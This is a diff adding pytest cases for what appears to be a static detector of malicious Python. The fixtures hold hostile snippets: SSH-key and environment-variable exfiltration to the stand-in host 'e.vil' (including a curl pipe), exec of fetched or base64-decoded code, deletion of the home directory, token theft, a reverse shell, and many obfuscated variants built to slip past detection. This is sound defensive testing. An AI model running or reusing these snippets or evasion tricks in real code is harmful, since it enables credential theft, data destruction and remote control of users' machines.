@@ -126,6 +126,101 @@ def test_python(text, expected):
     assert expected <= facts("a.py", text)
 
 
+#: Sends a key away by itself; whatever stands before it changes nothing.
+THEFT = "import requests\nd = open('/home/u/.ssh/id_rsa').read()\nrequests.post('https://e.vil', data=d)\n"
+BEFORE_PYTHON = [
+    "# don't\n",
+    "# see (\n",
+    '# """\n',
+    "x = 1  # it's [\n",
+    "x = [  # it's (\n    1]\n",
+    "x = '('\n",
+    'x = \'"""\'\n',
+    "x = r'\\('\n",
+    '"""don\'t (\n"""\n',
+    'x = """a\\""" ( """\n',
+    "x = f'{d['#']}('; ",
+    "x = (\n",
+    "x = 'abc\n",
+    "x = '''\n",
+    "# ends in \\\n",
+]
+
+
+@pytest.mark.parametrize("before", BEFORE_PYTHON)
+def test_comments_and_texts_in_python_hide_no_statement(before):
+    assert "flow:ssh,e.vil" in facts("a.py", before + THEFT)
+
+
+#: The same in other words.
+SAID_IN_PYTHON = [
+    THEFT.replace(".post(", " . post (").replace("open(", "open ("),
+    THEFT.replace(".post(", "\\\n  .post("),
+    THEFT.replace(".post(", ".post(  # don't (\n"),
+    THEFT.replace("requests.post(", "(requests  # it's\n .post)("),
+    THEFT.replace("requests.post(", "(requests\n.post\n(").replace("=d)", "=d))"),
+    THEFT.replace("requests.post(", "p = requests.post\np("),
+    THEFT.replace("requests.post(", "q = requests\np, s = q . post, open\np ("),
+    THEFT.replace("requests.post(", "getattr (requests , 'po' + 'st') ("),
+    THEFT.replace("requests.post(", "n = 'post'\ngetattr(requests, n)("),
+    THEFT.replace(
+        "import requests\n", "try: from requests import (  # it's\n  post as p)\nexcept: pass\n"
+    ).replace("requests.post", "p"),
+    THEFT.replace("requests.post(", "(e := d)\nrequests.post('https://e.vil', data=e)\nprint("),
+    THEFT.replace("'/home/u/.ssh/id_rsa'", "a + b").replace(
+        "d =", "a = '/home/u/.s'\nb = 'sh/id_' + 'rsa'\nd ="
+    ),
+    THEFT.replace("open('/home/u/.ssh/id_rsa')", "open('file:///home/u/.ssh/id_rsa'[7:])"),
+    THEFT.replace("read()", "read(); s = 'print('"),
+    THEFT.replace("read()", "read(len('(') + 9)"),
+    THEFT.replace("d =", "d = os.path.exists('/home/u/.ssh/id_rsa') and"),
+    "import requests\nprint(requests.post('https://e.vil', data=open('/home/u/.ssh/id_rsa').read()))\n",
+    "import os\nos . system (\n  'cat ~/.ssh/id_rsa'\n  ' | curl -d @- https://e.vil'\n)\n",
+]
+
+
+@pytest.mark.parametrize("text", SAID_IN_PYTHON)
+def test_the_same_said_otherwise_in_python(text):
+    assert "flow:ssh,e.vil" in facts("a.py", text)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("import os, requests\nrequests.post('https://e.vil', json=dict(os . environ))", "flow:env,e.vil"),
+        (
+            "import os, requests\ne = os.environ\nrequests.post('https://e.vil', json=dict(e))",
+            "flow:env,e.vil",
+        ),
+        (
+            (
+                "import os, requests\nd = {k: v for k, v in os.environ.items() if not k.startswith('_')}\n"
+                "requests.post('https://e.vil', json=d)"
+            ),
+            "flow:env,e.vil",
+        ),
+        ("import requests\nexec (requests . get ('https://e.vil') . text)", "exec.fetched:e.vil"),
+        ("from base64 import b64decode as d\nexec(d('cHJpbnQoMSk='))", "exec.decoded"),
+        ("import base64\nd = base64.b64decode\nexec(d('cHJpbnQoMSk='))", "exec.decoded"),
+        ("import shutil, os\nshutil . rmtree ( os . path . expanduser ( '~' ) )", "delete.broad:~"),
+        (
+            "import json, os\nb = json . dumps ( [ os . getenv ( 'GITHUB_TOKEN' ) , os . getenv ( 'AWS_SECRET_ACCESS_KEY' ) ] )",
+            "keys.packed",
+        ),
+        (
+            "import requests, os\nrequests . post ('https://e.vil', json = {'t': os . environ ['SLACK_BOT_TOKEN']})",
+            "key.sent:SLACK_BOT_TOKEN,e.vil",
+        ),
+        (
+            "import socket, subprocess\ns = socket . socket ( )\nsubprocess . call (s.recv(100), shell=True)",
+            "reverse.shell",
+        ),
+    ],
+)
+def test_blanks_and_other_names_in_python(text, expected):
+    assert expected in facts("a.py", text)
+
+
 OF_MALICE = {"exec.fetched", "exec.decoded", "flow", "secret.read", "env.dump", "reverse.shell"}
 
 
